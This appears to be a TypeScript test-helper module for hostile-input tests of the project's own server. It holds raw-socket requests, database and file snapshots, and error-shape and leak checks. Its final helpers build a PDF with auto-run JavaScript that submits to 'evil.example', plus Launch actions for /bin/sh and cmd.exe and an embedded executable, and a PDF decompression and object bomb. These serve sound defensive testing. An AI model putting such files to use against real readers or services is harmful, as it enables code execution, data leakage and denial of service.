// Tools for hostile-input tests: requests with a deadline (fetch, or raw bytes over a socket for
// what fetch refuses to send), a snapshot of everything a request could change (every table's
// rows, the stored objects and temporary files), checks of the error shapes, and hostile files.
import { createHash } from "node:crypto";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";
import zlib from "node:zlib";
import { expect } from "chai";
import { readTimeStampResponse, type TsaFailure } from "../../server/pki/tsa";
import type { TestPlatform } from "./platform";

/** A request the server has not answered in this time is a hang, and fails its case. */
export const DEADLINE_MS = 10_000;

export interface Reply {
  status: number;
  headers: Record<string, string>;
  body: Buffer;
  text: string;
}

export interface SendOptions {
  token?: string;
  json?: unknown;
  body?: string | Buffer | FormData;
  headers?: Record<string, string>;
}

/** fetch with a deadline; `json` is sent as given when it is a string (so it may be malformed). */
export async function send(tp: TestPlatform, method: string, route: string, o: SendOptions = {}): Promise<Reply> {
  const headers: Record<string, string> = { ...(o.headers ?? {}) };
  if (o.token !== undefined) headers.authorization = `Bearer ${o.token}`;
  let body: BodyInit | undefined;
  if (o.json !== undefined) {
    headers["content-type"] ??= "application/json";
    body = typeof o.json === "string" ? o.json : JSON.stringify(o.json);
  } else if (Buffer.isBuffer(o.body)) {
    body = new Uint8Array(o.body);
  } else {
    body = o.body;
  }
  const res = await fetch(tp.url + route, { method, headers, body, redirect: "manual", signal: AbortSignal.timeout(DEADLINE_MS) });
  const buf = Buffer.from(await res.arrayBuffer());
  return { status: res.status, headers: Object.fromEntries(res.headers), body: buf, text: buf.toString("utf8") };
}

/**
 * Sends raw bytes on a new connection and reads one response (interim 1xx responses skipped).
 * `halfClose` ends the sending side after the bytes (a body shorter than announced).
 */
export function raw(tp: TestPlatform, bytes: string | Buffer, opts: { halfClose?: boolean } = {}): Promise<Reply> {
  const { port, hostname } = new URL(tp.url);
  return new Promise((resolve, reject) => {
    const socket = net.connect(Number(port), hostname);
    let data = Buffer.alloc(0);
    let done = false;
    const finish = (err: Error | null, reply?: Reply) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      if (err) reject(err);
      else resolve(reply!);
    };
    const timer = setTimeout(() => finish(new Error(`no answer within ${DEADLINE_MS} ms: the server hangs`)), DEADLINE_MS);
    const tryParse = (closed: boolean) => {
      const reply = parseResponse(data, closed);
      if (reply) finish(null, reply);
      else if (closed) finish(new Error(`the connection closed without a complete response: ${JSON.stringify(data.toString("latin1").slice(0, 200))}`));
    };
    socket.on("data", (chunk) => {
      data = Buffer.concat([data, chunk]);
      tryParse(false);
    });
    socket.on("end", () => tryParse(true));
    socket.on("close", () => tryParse(true));
    socket.on("error", (e) => (data.length ? tryParse(true) : finish(e)));
    socket.write(typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes);
    if (opts.halfClose) socket.end();
  });
}

/** One HTTP/1.1 response from `data`, or null while it is incomplete. */
function parseResponse(data: Buffer, closed: boolean): Reply | null {
  let start = 0;
  for (;;) {
    const headEnd = data.indexOf("\r\n\r\n", start);
    if (headEnd < 0) return null;
    const lines = data.subarray(start, headEnd).toString("latin1").split("\r\n");
    const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(lines[0])?.[1]);
    if (!status) throw new Error(`not an HTTP response: ${JSON.stringify(lines[0])}`);
    const headers: Record<string, string> = {};
    for (const line of lines.slice(1)) {
      const i = line.indexOf(":");
      headers[line.slice(0, i).trim().toLowerCase()] = line.slice(i + 1).trim();
    }
    const bodyStart = headEnd + 4;
    if (status >= 100 && status < 200) {
      start = bodyStart;
      continue;
    }
    let body: Buffer;
    if (headers["content-length"] !== undefined) {
      const n = Number(headers["content-length"]);
      if (data.length - bodyStart < n) return null;
      body = data.subarray(bodyStart, bodyStart + n);
    } else if (/chunked/i.test(headers["transfer-encoding"] ?? "")) {
      const chunks: Buffer[] = [];
      let at = bodyStart;
      for (;;) {
        const lineEnd = data.indexOf("\r\n", at);
        if (lineEnd < 0) return null;
        const size = parseInt(data.subarray(at, lineEnd).toString("latin1"), 16);
        if (size === 0) break;
        if (data.length < lineEnd + 2 + size + 2) return null;
        chunks.push(data.subarray(lineEnd + 2, lineEnd + 2 + size));
        at = lineEnd + 2 + size + 2;
      }
      body = Buffer.concat(chunks);
    } else {
      if (!closed) return null;
      body = data.subarray(bodyStart);
    }
    return { status, headers, body, text: body.toString("utf8") };
  }
}

// ---------------------------------------------------------------------------------------------
// What a request could change

export interface Snapshot {
  tables: Record<string, { count: number; digest: string }>;
  objects: string[];
  tmp: string[];
  dataDir: string[];
}

/** Tables whose rows change on their own (the anchoring lease is renewed): compared by count only. */
const VOLATILE = new Set(["WorkerLease"]);
/** Rate-limit counters count every request, refused ones too, by design: not compared. */
const COUNTERS = new Set(["RateLimitCounter"]);

const jsonSafe = (_k: string, v: unknown) =>
  typeof v === "bigint" ? `${v}n` : v instanceof Uint8Array ? Buffer.from(v).toString("base64") : v;

/** Every table in the database (whatever models exist now), each with its row count and a digest of its rows. */
export async function snapshot(tp: TestPlatform): Promise<Snapshot> {
  const { db, provider } = tp.platform.database;
  const quote = (name: string) => `"${name.replace(/"/g, '""')}"`;
  const tables: Snapshot["tables"] = {};
  if (provider === "sqlite") {
    const names = await db.$queryRawUnsafe<{ name: string }[]>(`SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'`);
    for (const { name } of names.filter((n) => !COUNTERS.has(n.name))) {
      const rows = await db.$queryRawUnsafe<Record<string, unknown>[]>(`SELECT * FROM ${quote(name)}`);
      const digest = VOLATILE.has(name)
        ? ""
        : createHash("sha256")
            .update(rows.map((r) => JSON.stringify(r, jsonSafe)).sort().join("\n"))
            .digest("hex");
      tables[name] = { count: rows.length, digest };
    }
  } else {
    // One round trip: every table's count and a digest of its rows' text forms, computed by the server.
    const names = (await db.$queryRawUnsafe<{ name: string }[]>(`SELECT tablename AS name FROM pg_tables WHERE schemaname = current_schema()`)).filter(
      (n) => !COUNTERS.has(n.name),
    );
    const rows = await db.$queryRawUnsafe<{ name: string; count: number; digest: string }[]>(
      names
        .map(({ name }) =>
          VOLATILE.has(name)
            ? `SELECT '${name.replace(/'/g, "''")}' AS name, count(*)::int AS count, '' AS digest FROM ${quote(name)}`
            : `SELECT '${name.replace(/'/g, "''")}' AS name, count(*)::int AS count, md5(coalesce(string_agg(t::text, E'\\n' ORDER BY t::text), '')) AS digest FROM ${quote(name)} t`,
        )
        .join(" UNION ALL "),
    );
    for (const r of rows) tables[r.name] = { count: Number(r.count), digest: r.digest };
  }
  const files = (dir: string): string[] =>
    fs.existsSync(dir)
      ? fs
          .readdirSync(dir, { recursive: true })
          .map(String)
          .filter((f) => fs.statSync(path.join(dir, f)).isFile())
          .sort()
      : [];
  return {
    tables: Object.fromEntries(Object.entries(tables).sort(([a], [b]) => (a < b ? -1 : 1))),
    objects: files(path.join(tp.dataDir, "objects")),
    tmp: temporaryFiles(tp),
    dataDir: fs.readdirSync(tp.dataDir).sort(),
  };
}

/** The files of DATA_DIR/tmp (uploads being received). */
export function temporaryFiles(tp: TestPlatform): string[] {
  const dir = path.join(tp.dataDir, "tmp");
  return fs.existsSync(dir) ? fs.readdirSync(dir).sort() : [];
}

/** What a legitimately accepted request may change: rows added per table, objects added. */
export interface Changes {
  rows?: Record<string, number>;
  objects?: number;
}

/**
 * Asserts that nothing changed but what `changes` allows. When a request was accepted, the audit
 * log (any table named like it) may grow as well: every state-changing action appends to it.
 */
export function expectChanges(before: Snapshot, after: Snapshot, changes?: Changes): void {
  const accepted = changes !== undefined;
  const names = [...new Set([...Object.keys(before.tables), ...Object.keys(after.tables)])].sort();
  for (const name of names) {
    const b = before.tables[name];
    const a = after.tables[name];
    expect(a, `table ${name} disappeared`).to.not.equal(undefined);
    expect(b, `table ${name} appeared`).to.not.equal(undefined);
    const delta = changes?.rows?.[name];
    if (delta !== undefined) {
      expect(a.count - b.count, `rows added to ${name}`).to.equal(delta);
    } else if (accepted && /audit/i.test(name)) {
      expect(a.count, `rows of ${name}`).to.be.at.least(b.count);
    } else {
      expect(a, `table ${name} changed`).to.deep.equal(b);
    }
  }
  expect(after.tmp, "temporary files left behind").to.deep.equal(before.tmp);
  expect(after.dataDir, "entries of DATA_DIR").to.deep.equal(before.dataDir);
  expect(after.objects, "stored objects").to.include.members(before.objects);
  expect(after.objects.length - before.objects.length, "objects added").to.equal(changes?.objects ?? 0);
}

// ---------------------------------------------------------------------------------------------
// Response shapes

/** Text that would betray the server's insides: stack frames, source paths, driver errors. */
export function expectNoLeak(tp: TestPlatform, reply: Reply): void {
  const text = reply.body.toString("latin1");
  for (const pattern of [
    /\n\s+at\s+\S/,
    /node_modules/,
    /\.tsx?:\d+/,
    /\.[cm]?js:\d+:\d+/,
    /\bprisma\b/i,
    /SQLITE_[A-Z]/,
    /invalid byte sequence/i,
    /\b(?:Type|Range|Reference|Syntax)Error\b/,
    /Maximum call stack/i,
  ]) {
    expect(text, `the body leaks ${pattern}`).to.not.match(pattern);
  }
  for (const inside of [process.cwd(), tp.dataDir]) {
    expect(text.includes(inside), `the body names the internal path ${inside}`).to.equal(false);
  }
}

/** The API's one error shape: exactly {error: {code, message}}, as JSON. */
export function expectApiError(reply: Reply, status: number, code?: string): void {
  expect(reply.status, `status (body: ${reply.text.slice(0, 300)})`).to.equal(status);
  expect(reply.headers["content-type"] ?? "", "content type").to.match(/^application\/json\b/);
  const body = JSON.parse(reply.text) as { error: { code: unknown; message: unknown } };
  expect(Object.keys(body), "top-level keys").to.deep.equal(["error"]);
  expect(Object.keys(body.error).sort(), "error keys").to.deep.equal(["code", "message"]);
  expect(body.error.code).to.be.a("string").and.match(/^[a-z][a-z0-9_]*$/);
  expect(body.error.message).to.be.a("string").and.not.equal("");
  if (code !== undefined) expect(body.error.code, `code (message: ${String(body.error.message)})`).to.equal(code);
}

function checkRpcResponse(r: unknown): { id: unknown; error?: { code: number; message: string }; result?: unknown } {
  const o = r as Record<string, unknown>;
  expect(o, "a JSON-RPC response").to.be.an("object");
  expect(o.jsonrpc).to.equal("2.0");
  expect(o).to.have.property("id");
  expect(o.id === null || ["string", "number"].includes(typeof o.id), "id is a string, number or null").to.equal(true);
  expect("result" in o !== "error" in o, "either result or error").to.equal(true);
  expect(Object.keys(o).every((k) => ["jsonrpc", "id", "result", "error"].includes(k)), `keys ${Object.keys(o)}`).to.equal(true);
  if ("error" in o) {
    const e = o.error as Record<string, unknown>;
    expect(Number.isInteger(e.code), "error.code is an integer").to.equal(true);
    expect(e.message).to.be.a("string").and.not.equal("");
  }
  return o as ReturnType<typeof checkRpcResponse>;
}

/** A single JSON-RPC 2.0 error response. */
export function expectRpcError(reply: Reply, status: number, rpcCode?: number): void {
  expect(reply.status, `status (body: ${reply.text.slice(0, 300)})`).to.equal(status);
  expect(reply.headers["content-type"] ?? "").to.match(/^application\/json\b/);
  const r = checkRpcResponse(JSON.parse(reply.text));
  expect(r.error, "a JSON-RPC error").to.not.equal(undefined);
  if (rpcCode !== undefined) expect(r.error!.code, r.error!.message).to.equal(rpcCode);
}

/** A JSON-RPC batch answer (200): one well-formed response per call; returns them. */
export function expectRpcBatch(reply: Reply, calls: number) {
  expect(reply.status, `status (body: ${reply.text.slice(0, 300)})`).to.equal(200);
  const out = JSON.parse(reply.text) as unknown[];
  expect(out).to.be.an("array").with.length(calls);
  return out.map(checkRpcResponse);
}

/** RFC 3161 over HTTP: a 200 carrying a TimeStampResp that rejects the request. */
export function expectTsaRejection(reply: Reply, failure?: TsaFailure): void {
  expect(reply.status).to.equal(200);
  expect(reply.headers["content-type"]).to.equal("application/timestamp-reply");
  const r = readTimeStampResponse(reply.body);
  expect(r.status, "PKIStatus rejection(2)").to.equal(2);
  expect(r.token).to.equal(null);
  expect(r.failures, "a failure reason").to.have.length.greaterThan(0);
  if (failure) expect(r.failures).to.include(failure);
}

// ---------------------------------------------------------------------------------------------
// Hostile bodies and files

/** A multipart/form-data body from raw part headers, so that they may be malformed. */
export function multipart(parts: { headers: string[]; body: string | Buffer }[], boundary: string, opts: { close?: boolean } = {}): Buffer {
  const out: Buffer[] = [];
  for (const p of parts) {
    out.push(Buffer.from(`--${boundary}\r\n${p.headers.map((h) => h + "\r\n").join("")}\r\n`, "utf8"));
    out.push(Buffer.isBuffer(p.body) ? p.body : Buffer.from(p.body, "utf8"));
    out.push(Buffer.from("\r\n"));
  }
  if (opts.close !== false) out.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(out);
}

/** A PDF with a correct cross-reference table; objects are numbered from 1 (1 is the catalog). */
export function buildPdf(objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let length = parts[0].length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(length);
    const b = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.isBuffer(o) ? o : Buffer.from(o, "latin1"), Buffer.from("\nendobj\n")]);
    parts.push(b);
    length += b.length;
  });
  const xref =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("") +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(xref, "latin1")]);
}

const stream = (dict: string, data: Buffer) =>
  Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`), data, Buffer.from("\nendstream")]);

/**
 * A PDF whose every action would run code: JavaScript on open, on page open and on close, a
 * Launch action, an XFA script and an embedded executable. The script would write `sentinel`.
 */
export function pdfWithJavaScript(sentinel: string): Buffer {
  const js = `app.alert('pwned'); try { require('fs').writeFileSync('${sentinel}', 'ran'); } catch (e) {} this.submitForm('http://evil.example/');`;
  return buildPdf([
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >> /Names << /JavaScript << /Names [(run) 4 0 R] >> /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> /AcroForm << /Fields [] /XFA 7 0 R >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O 5 0 R /C 4 0 R >> >>",
    `<< /Type /Action /S /JavaScript /JS (${js.replace(/[()\\]/g, (c) => "\\" + c)}) /Next 5 0 R >>`,
    "<< /Type /Action /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc.exe) >> >>",
    "<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>",
    stream("", Buffer.from(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">${js}</script></template></xdp:xdp>`)),
    stream("/Type /EmbeddedFile", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(510, 0x90)])),
  ]);
}

/**
 * A decompression and object bomb: a content stream that inflates (twice) to `inflatedMiB` MiB,
 * ten levels of arrays each referring ten times to the level below (10^10 references once
 * resolved), and a dictionary nested 3,000 deep.
 */
export function pdfBomb(inflatedMiB = 32): Buffer {
  const once = zlib.deflateSync(Buffer.alloc(inflatedMiB * 1024 * 1024), { level: 9 });
  const twice = zlib.deflateSync(once, { level: 9 });
  const objects: (string | Buffer)[] = [
    "<< /Type /Catalog /Pages 2 0 R /Laughs 6 0 R /Deep 16 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>",
    stream("/Filter [/FlateDecode /FlateDecode]", twice),
    stream("/Type /XObject /Subtype /Image /Width 65535 /Height 65535 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter [/FlateDecode /FlateDecode]", twice),
  ];
  for (let level = 0; level < 10; level++) {
    objects.push(level === 9 ? "(lol)" : `[${Array.from({ length: 10 }, () => `${objects.length + 2} 0 R`).join(" ")}]`);
  }
  objects.push("<< /A ".repeat(3000) + "null" + " >>".repeat(3000));
  return buildPdf(objects);
}
